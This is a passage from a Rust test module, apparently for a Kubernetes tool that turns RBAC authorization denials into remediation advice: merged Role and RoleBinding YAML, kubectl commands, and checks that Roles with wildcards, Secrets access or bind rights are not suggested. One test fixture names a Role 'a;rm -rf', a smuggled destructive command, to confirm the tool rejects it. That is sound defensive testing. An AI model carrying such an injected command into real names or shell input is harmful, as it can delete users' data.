        };
        assert_eq!(grant_yaml(&newline), None);
    }

    /// Several denials of one subject in one namespace are one Role and one RoleBinding, verbs
    /// merged per resource (a new user got a Role per denial); another namespace or the
    /// cluster scope is its own grant.
    #[test]
    fn denials_of_one_subject_in_one_scope_are_one_grant() {
        let d = |verb: &str, resource: &str, group: &str, ns: Option<&str>| AuthzDenial {
            user: "system:serviceaccount:demo:app".into(),
            verb: verb.into(),
            resource: resource.into(),
            subresource: None,
            api_group: Some(group.into()),
            namespace: ns.map(String::from),
            path: None,
        };
        let (a, b, c) = (
            d("get", "leases", "coordination.k8s.io", Some("demo")),
            d("list", "pods", "", Some("demo")),
            d("watch", "pods", "", Some("demo")),
        );
        let yaml = grant_yaml_all(&[&a, &b, &c]).unwrap();
        assert_eq!(yaml.matches("kind: Role\n").count(), 1, "{yaml}");
        assert_eq!(yaml.matches("kind: RoleBinding").count(), 1, "{yaml}");
        assert!(
            yaml.contains("name: app-kube-doctor-grants, namespace: demo"),
            "{yaml}"
        );
        assert!(
            yaml.contains("resources: [\"pods\"]\n  verbs: [list, watch]"),
            "{yaml}"
        );
        assert!(
            yaml.contains("resources: [\"leases\"]\n  verbs: [get, create, update]"),
            "{yaml}"
        );
        // One denial keeps its own name; other scopes and subjects are not merged.
        assert!(grant_yaml(&a).unwrap().contains("name: app-get-leases"));
        let other_ns = d("list", "pods", "", Some("other"));
        assert_eq!(grant_yaml_all(&[&a, &other_ns]), None);
        let cluster = d("list", "nodes", "", None);
        assert!(
            grant_yaml_all(&[&cluster])
                .unwrap()
                .contains("kind: ClusterRole\n")
        );
        assert_eq!(grant_yaml_all(&[]), None);

        // The verdict on the recorded bundle: one grant for its two denials.
        let v = evaluate(&Authorization, &bundle("rbac-revoked"));
        let grants: Vec<&String> = v[0]
            .remediation
            .iter()
            .filter(|r| r.starts_with("grant "))
            .collect();
        assert_eq!(grants.len(), 1, "{grants:?}");
        assert!(
            grants[0].starts_with("grant get leases, list pods in demo"),
            "{}",
            grants[0]
        );
        // Leader election's Lease: get, create and update together (a new user applied the
        // grant of `get` alone and got `cannot update resource "leases"` next).
        assert!(
            grants[0]
                .contains("with create leases, update leases, watch pods: Kubernetes clients ask"),
            "{}",
            grants[0]
        );
    }

    /// A denial allowed now beside one still denied for the same identity: the identity is the
    /// one presented, so no "not presenting this identity" hint (a new user's finding), and the
    /// check reads as a permission (`verify that U may get leases in namespace demo now`).
    #[test]
    fn one_denial_granted_since_and_one_still_denied() {
        let mut b = bundle("rbac-revoked");
        for c in &mut b.credentials {
            for r in &mut c.access_reviews {
                r.allowed = r.denial.resource == "leases";
            }
        }
        let v = evaluate(&Authorization, &b);
        let fix = v[0].remediation.join("\n");
        assert!(
            fix.contains("get leases in namespace demo) is no longer current"),
            "{fix}"
        );
        assert!(!fix.contains("not presenting this identity"), "{fix}");
        assert!(fix.contains("grant list pods in demo"), "{fix}");
        for c in &mut b.credentials {
            for r in &mut c.access_reviews {
                r.allowed = true;
            }
        }
        let v = evaluate(&Authorization, &b);
        assert!(
            v[0].remediation.iter().any(|r| r.starts_with(
                "verify that system:serviceaccount:demo:kubers-client may get leases in namespace demo now: kubectl auth can-i"
            )),
            "{:?}",
            v[0].remediation
        );
    }

    /// A Role in the namespace that grants the denied verbs (and those clients ask for
    /// with them) already: the advice binds it first (a new user's lab run: the lab's Role
    /// `demo-client` was bound to two sibling ServiceAccounts, only this one's binding was
    /// gone). A Role that lacks one verb, or whose name the API server would not accept, is not
    /// offered.
    #[test]
    fn an_existing_role_that_grants_the_denials_is_bound() {
        use crate::bundle::{PolicyRuleSummary, RoleRules};
        let rule = |group: &str, res: &str, verbs: &[&str]| PolicyRuleSummary {
            api_groups: vec![group.into()],
            resources: vec![res.into()],
            verbs: verbs.iter().map(|v| v.to_string()).collect(),
            resource_names: Vec::new(),
        };
        let role = |name: &str, lease_verbs: &[&str]| RoleRules {
            namespace: "demo".into(),
            name: name.into(),
            rules: vec![
                rule("coordination.k8s.io", "leases", lease_verbs),
                rule("", "pods", &["get", "list", "watch"]),
            ],
        };
        let mut b = bundle("rbac-revoked");
        let mut admin = role("admin", &["*"]);
        admin.rules.truncate(1);
        admin.rules[0].resources = vec!["*".into()];
        admin.rules[0].api_groups = vec!["*".into()];
        b.credentials[0].roles = vec![
            role("demo-client", &["get", "create", "update"]),
            role("reader", &["get"]),
            // Sorts first by name, but the API server would not accept it: never offered.
            role("a;rm -rf", &["get", "create", "update"]),
            // One rule, so the fewest, but a wildcard: never offered.
            admin,
        ];
        let v = evaluate(&Authorization, &b);
        let first = &v[0].remediation[0];
        assert!(
            first.starts_with("the Role demo-client in demo already grants get leases, list pods"),
            "{first}"
        );
        assert!(
            first.contains(
                "kubectl create rolebinding kubers-client-demo-client -n demo --role=demo-client --serviceaccount=demo:kubers-client"
            ),
            "{first}"
        );
        assert!(
            v[0].remediation[1].starts_with("or, to grant only what it needs, grant "),
            "{:?}",
            v[0].remediation
        );
        // What else the Role grants is said (a new user: a Role granting more was offered
        // silently).
        assert!(
            first.contains(
                "; it also grants get pods (bind it only if the client should have those)"
            ),
            "{first}"
        );
        // A Role that also reads Secrets, or may bind Roles, is never offered.
        let mut secrets = role("a-secrets", &["get", "create", "update"]);
        secrets.rules.push(rule("", "secrets", &["get"]));
        let mut binder = role("a-binder", &["get", "create", "update"]);
        binder
            .rules
            .push(rule("rbac.authorization.k8s.io", "roles", &["bind"]));
        b.credentials[0].roles = vec![secrets, binder];
        let v = evaluate(&Authorization, &b);
        assert!(
            v[0].remediation[0].starts_with("grant "),
            "{:?}",
            v[0].remediation
        );
        // Only the Role lacking `update leases`: no binding offered, the grant stays.
        b.credentials[0].roles = vec![role("reader", &["get"])];
        let v = evaluate(&Authorization, &b);
        assert!(
            v[0].remediation[0].starts_with("grant "),
            "{:?}",
            v[0].remediation
        );
    }

    #[test]
    fn a_quota_refusal_is_not_rbac() {
        for fault in ["quota-exceeded", "healthy", "apf-throttle"] {
            assert!(
                evaluate(&Authorization, &bundle(fault)).is_empty(),
                "{fault}"
            );
        }
    }
}
